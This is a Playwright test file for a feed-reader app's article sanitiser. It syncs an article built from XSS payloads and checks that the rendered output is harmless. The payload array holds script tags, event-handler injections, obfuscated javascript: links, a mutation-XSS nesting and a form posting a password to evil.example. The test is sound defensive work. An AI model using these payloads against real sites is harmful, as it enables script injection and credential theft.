/**
 * An article written to attack the reader (script, event handlers, javascript: links and
 * friends) arrives through a real sync and is rendered harmless.
 */
import { expect, openApp, setFeedUrl, test, viewTitle } from './app';

const ATTACK = [
  'Before the attack.',
  '',
  '<script>window.__xss = "script"; alert("script")</script>',
  '',
  '<img src=x onerror="window.__xss = \'img\'; alert(\'img\')" alt="broken">',
  '',
  '[click me](javascript:alert(1))',
  '',
  '<a href="javascript:alert(2)">raw javascript link</a>',
  '',
  '<a href="jav&#x61;script:alert(3)">encoded javascript link</a>',
  '',
  '<a href=" JavaScript:alert(4)">spaced javascript link</a>',
  '',
  '<svg onload="alert(5)"><circle r="4"/></svg>',
  '',
  '<iframe src="javascript:alert(6)"></iframe>',
  '',
  '<p style="background:url(javascript:alert(7))" onclick="alert(8)" onmouseover="alert(9)">styled paragraph</p>',
  '',
  '<details open ontoggle="alert(10)"><summary>details</summary>inside</details>',
  '',
  '<form action="https://evil.example/steal"><input name="password"><button>send</button></form>',
  '',
  '<object data="javascript:alert(11)"></object><embed src="javascript:alert(12)">',
  '',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(13)></style></mglyph></table></mtext></math>',
  '',
  '[a safe link](https://help.example.com/page) and [another article](article:plain-article).',
].join('\n');

test('renders an attacking article harmless: no script, no handlers, no javascript: URLs, no dialog', async ({ page, preview, serveFeed }) => {
  const feed = await serveFeed([
    { id: 'xss-article', title: '악성 코드가 들어 있는 문서', body: ATTACK },
    { id: 'plain-article', title: '평범한 문서', body: '평범한 본문입니다.' },
  ]);
  await page.addInitScript(() => {
    window.open = () => null; // the preview opens checked external links itself; not here
  });
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await openApp(page, preview);
  await setFeedUrl(page, feed.url);
  await page.getByRole('button', { name: '지금 동기화' }).click();
  await expect(page.locator('.notice-success')).toContainText('동기화를 마쳤습니다');

  await page.goto(preview.url({ hash: '#/article/xss-article' }));
  await expect(viewTitle(page)).toHaveText('악성 코드가 들어 있는 문서');
  const body = page.locator('.article-body');
  await expect(body).toContainText('Before the attack.');
  await expect(body).toContainText('styled paragraph');

  const report = await body.evaluate((root) => {
    const elements = [...root.querySelectorAll('*')];
    return {
      tags: [...new Set(elements.map((el) => el.tagName.toLowerCase()))],
      handlers: elements.flatMap((el) => [...el.attributes].filter((a) => a.name.toLowerCase().startsWith('on')).map((a) => `${el.tagName}@${a.name}`)),
      styles: elements.filter((el) => el.hasAttribute('style')).length,
      urls: elements.flatMap((el) => ['href', 'src', 'data', 'action', 'formaction', 'xlink:href'].map((name) => el.getAttribute(name)).filter((v): v is string => v !== null)),
    };
  });
  for (const tag of ['script', 'iframe', 'object', 'embed', 'svg', 'math', 'form', 'input', 'style']) expect(report.tags).not.toContain(tag);
  expect(report.handlers).toEqual([]);
  expect(report.styles).toBe(0);
  // Browsers ignore white space and control characters inside a scheme; so does this check.
  const scheme = (url: string): string => [...url].filter((c) => c.charCodeAt(0) > 32).join('').toLowerCase();
  for (const url of report.urls) expect(scheme(url)).not.toMatch(/^(javascript|vbscript|data:text)/);
  expect(await page.evaluate(() => document.querySelectorAll('script:not([src])').length)).toBe(0);

  // Clicking what is left of the links does nothing dangerous.
  for (const text of ['click me', 'raw javascript link', 'encoded javascript link', 'spaced javascript link']) {
    const link = body.getByText(text);
    if ((await link.count()) > 0) await link.first().click();
  }
  await body.getByText('styled paragraph').hover();
  await body.getByText('styled paragraph').click();
  await expect(page).toHaveURL(/#\/article\/xss-article$/);

  // The safe links still work: external through openExternal, article links in the app.
  await body.getByRole('link', { name: /a safe link/ }).click();
  await expect.poll(() => preview.opened).toEqual(['https://help.example.com/page']);
  await body.getByRole('link', { name: 'another article' }).click();
  await expect(viewTitle(page)).toHaveText('평범한 문서');

  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __xss?: string }).__xss)).toBeUndefined();
});
